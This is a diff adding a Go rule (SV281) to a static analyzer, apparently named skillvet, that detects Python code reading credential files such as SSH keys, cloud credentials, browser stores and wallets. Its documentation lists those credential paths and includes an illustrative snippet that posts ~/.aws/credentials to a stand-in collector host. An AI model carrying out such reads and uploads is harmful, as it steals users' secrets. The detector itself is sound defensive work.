@@ -1,0 +1,188 @@
+package rules
+
+import (
+	"strings"
+
+	"github.com/skillvet/skillvet/analyzer"
+	"github.com/skillvet/skillvet/intel"
+	"github.com/skillvet/skillvet/parse/python"
+)
+
+// PythonCredentialFiles reports Python code that reads credential files.
+var PythonCredentialFiles = register(&analyzer.Rule{
+	ID:       "SV281",
+	Name:     "python-credential-files",
+	Title:    "Python reads credential files (SSH keys, cloud credentials, wallets, browser stores)",
+	Severity: Medium,
+	Category: analyzer.CatCredentialFiles,
+	Tags:     []string{"security", "python", "CWE-522", "CWE-200"},
+	Inputs:   analyzer.InPython,
+	Doc: `Python code opens, copies, archives or queries a file that holds credentials:
+` + "`~/.ssh`" + `, ` + "`~/.aws/credentials`" + `, ` + "`~/.config/gh/hosts.yml`" + `, ` + "`~/.netrc`" + `, ` + "`~/.git-credentials`" + `,
+` + "`~/.npmrc`" + `, ` + "`~/.docker/config.json`" + `, ` + "`~/.kube/config`" + `, cloud SDK tokens, browser profiles
+(` + "`Login Data`" + `, ` + "`Cookies`" + `), crypto wallets, password stores and keychains (the shared list
+of credential paths). Paths are reassembled the way the code builds them —
+` + "`os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')`" + `, ` + "`Path.home() / '.aws' / 'credentials'`" + `,
+variables holding either — and commands such as ` + "`security find-generic-password`" + ` are included.
+
+- **critical** when the same file also sends data over the network: reading secrets and
+  a way out is the harvesting pattern;
+- **medium** otherwise: a skill rarely needs another tool's credentials.
+
+A project-local ` + "`.env`" + ` file (` + "`open('.env')`" + `, ` + "`load_dotenv()`" + `) is normal configuration and is
+reported only when its content flows into a network call to a host that is not a known
+API (**critical**); a ` + "`.env`" + ` under the home directory is always reported.
+
+**Fix:** ask the user for the one value the skill needs, or read it from a variable
+the user sets for this skill.
+
+Bad:
+
+` + "```python" + `
+from pathlib import Path
+import requests
+creds = (Path.home() / ".aws" / "credentials").read_text()
+requests.post("https://collector.example.net", data=creds)
+` + "```" + `
+
+Good:
+
+` + "```python" + `
+import boto3
+s3 = boto3.client("s3")  # the SDK reads credentials itself, they never pass through the skill
+` + "```",
+	Run: runPythonCredentialFiles,
+})
+
+var pyCredReadSuffixes = []string{".read_text", ".read_bytes", ".open", ".exists", ".is_file", ".iterdir", ".glob", ".rglob"}
+
+// pyPathBuilders only compute paths; the access is reported where the path
+// is used.
+var pyPathBuilders = map[string]bool{"os.path.join": true, "os.path.expanduser": true, "os.path.expandvars": true,
+	"pathlib.Path": true, "Path": true, "pathlib.PurePath": true}
+
+// pyPathOf renders the path an expression names, following variables
+// through their assignments up to depth levels.
+func pyPathOf(m *python.Module, a, b, depth int) []string {
+	out := []string{pathText(m, a, b)}
+	if depth == 0 {
+		return out
+	}
+	pyEachAssign(m, a, b, func(as python.Assign) bool {
+		out = append(out, pyPathOf(m, as.Start, as.End, depth-1)...)
+		return false
+	})
+	return out
+}
+
+// pyCredentialPath matches a credential path in the rendered paths. local
+// is true for a project-local .env, which counts only when it is sent.
+func pyCredentialPath(paths []string) (label, path string, local, ok bool) {
+	for _, text := range paths {
+		for _, p := range strings.Split(text, "\n") {
+			l, _, _, ok := intel.MatchCredentialPath(p)
+			if !ok {
+				continue
+			}
+			local := l == "dotenv file" && !strings.HasPrefix(p, "~") && !strings.HasPrefix(p, "/")
+			return l, p, local, true
+		}
+	}
+	return "", "", false, false
+}
+
+// pyCredentialAccesses lists calls that access credential files.
+func pyCredentialAccesses(m *python.Module) []pyCredAccess {
+	var out []pyCredAccess
+	seen := map[string]bool{}
+	for _, c := range m.Calls {
+		var paths []string
+		switch {
+		case pyFileCalls[c.Name] && !pyPathBuilders[c.Name]:
+			if pyOpenish(c.Name) && isWriteMode(openMode(m, c)) {
+				continue
+			}
+			for _, a := range c.Args {
+				if a.Keyword == "" || a.Keyword == "file" || a.Keyword == "path" || a.Keyword == "src" {
+					paths = append(paths, pyPathOf(m, a.Start, a.End, 2)...)
+				}
+			}
+		case hasSuffixAny(c.Name, pyCredReadSuffixes...):
+			paths = pyPathOf(m, c.Head, c.Open, 2)
+		case pySubprocessCalls[c.Name] || pyShellStringCalls[c.Name]:
+			if a, ok := c.Arg(0, "args"); ok {
+				if items, ok := argList(m, a); ok {
+					var words []string
+					for _, it := range items {
+						w, _ := m.Fold(it[0], it[1])
+						words = append(words, w)
+					}
+					paths = append(paths, strings.Join(words, " "))
+				} else if s, ok := m.Fold(a.Start, a.End); ok {
+					paths = append(paths, s)
+				}
+			}
+		default:
+			continue
+		}
+		label, path, local, ok := pyCredentialPath(paths)
+		if !ok {
+			continue
+		}
+		if seen[path] {
+			continue // one finding per credential path
+		}
+		seen[path] = true
+		out = append(out, pyCredAccess{call: c, label: label, path: path, local: local})
+	}
+	return out
+}
+
+type pyCredAccess struct {
+	call  *python.Call
+	label string
+	path  string
+	local bool // project-local .env
+}
+
+func runPythonCredentialFiles(p *analyzer.Pass) error {
+	m := pyModule(p)
+	if m == nil {
+		return nil
+	}
+	acc := pyCredentialAccesses(m)
+	if len(acc) == 0 {
+		return nil
+	}
+	sinkNote := pySinkNote(m)
+	for _, a := range acc {
+		start, end := m.Span(a.call)
+		if a.local {
+			// the project's own .env: reported only when its content is sent
+			// somewhere other than a known API
+			for _, c := range m.Calls {
+				if !netSink(m, c) || !pyFlowsFrom(m, c, a.call) {
+					continue
+				}
+				host, class := "", intel.HostUnknown
+				if u := sinkURL(m, c); u != "" {
+					host, class = intel.URLClass(u)
+				}
+				if class == intel.HostKnownAPI || class == intel.HostLoopback || p.Config.HostAllowed(host) {
+					continue
+				}
+				pyReport(p, m, analyzer.Diagnostic{Start: start, End: end, Severity: Critical,
+					Message: "reads the project's " + clipStr(a.path, 40) + " and sends it to " + pyHostOr(host) + " (line " + lineOf(m, c.Head) + ")"})
+				break
+			}
+			continue
+		}
+		msg := "reads " + a.label + " (" + clipStr(a.path, 60) + ")"
+		sev := Medium
+		if note := sinkNote(); note != "" {
+			sev, msg = Critical, msg+note
+		}
+		pyReport(p, m, analyzer.Diagnostic{Start: start, End: end, Severity: sev, Message: msg})
+	}
+	return nil
+}
